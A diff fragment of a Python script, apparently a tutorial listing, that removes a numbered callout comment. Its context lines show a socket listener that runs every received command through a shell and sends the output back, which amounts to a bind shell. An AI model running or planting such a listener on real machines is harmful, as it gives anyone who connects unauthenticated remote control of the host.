@@ -14,4 +14,4 @@ with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as listener:
         with conn:
             while command := conn.recv(1024).decode():
                 ran = subprocess.run(command, shell=True, stdin=subprocess.DEVNULL, capture_output=True)
-                conn.send(ran.stdout + ran.stderr)  # ①
+                conn.send(ran.stdout + ran.stderr)
